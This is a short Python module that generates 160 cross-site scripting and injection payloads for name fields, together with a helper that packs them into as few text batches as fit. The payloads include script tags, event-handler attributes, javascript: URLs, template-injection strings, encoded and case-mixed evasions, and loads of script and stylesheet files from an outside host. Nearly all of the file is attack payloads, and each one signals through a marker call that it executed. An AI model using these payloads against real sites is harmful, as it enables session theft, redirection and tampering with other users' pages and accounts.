"""What is typed where a name is asked for, so that a page takes it for its own: 160 ways, each says that it ran."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

# Out of where a value may stand: text, attributes, scripts, styles, comments, titles, fields, templates.
_OUT = (
    "",
    '">',
    "'>",
    "></p>",
    "--></script>",
    "</title></textarea></style>",
    "*/</script>",
    "]]>",
    "\\x3e",
    "&quot;&gt;",
)
_RUN = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(2)>",
    "<svg onload=ran(3)>",
    "<svg/onload=ran(4)//",
    "<iframe srcdoc='<script>top.ran(5)</script>'>",
    "<details open ontoggle=ran(6)>",
    "<input autofocus onfocus=ran(7)>",
    "<a href=javascript:ran(8) autofocus>x</a>",
    "<form action=javascript:ran(9)><button>x",
    "<div hx-on::load=ran(10) hx-trigger=load hx-get=/accounts/>",
    "<math><mtext><script>ran(11)</script>",
    "<object data=javascript:ran(12)>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=/x'>",
)
_ALONE = (
    "javascript:ran(20)",
    "' onmouseover=ran(21) x='",
    '" autofocus onfocus=ran(22) x="',
    "` onmouseover=ran(23) x=`",
    "{{ 7|add:7 }}{% debug %}",
    "${ran(24)}",
    "#{ran(25)}",
    "%3Cscript%3Eran(26)%3C/script%3E",
    "&lt;script&gt;ran(27)&lt;/script&gt;",
    "\\u003cscript\\u003eran(28)\\u003c/script\\u003e",
    "<ScRiPt>ran(29)</sCrIpT>",
    "<scr<script>ipt>ran(30)</scr</script>ipt>",
    "＜script＞ran(31)＜/script＞",
    "<script src=//elsewhere.example/x.js></script>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>*{background:url(//elsewhere.example/)}</style>",
    "<p style=position:fixed;inset:0>over all</p>",
    "<button formaction=/accounts/trash/>x</button>",
    "%s %d %(id)s %%",
    "</span></a></li></ul></main></body></html>",
)


def _all() -> Iterator[str]:
    yield from _ALONE
    for out, run in product(_OUT, _RUN):
        yield f"{out}{run}"


PAYLOADS: tuple[str, ...] = tuple(islice(dict.fromkeys(_all()), 160))


def batches(most: int) -> list[str]:
    """All of them in as few texts as fit."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > most:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()
    return found
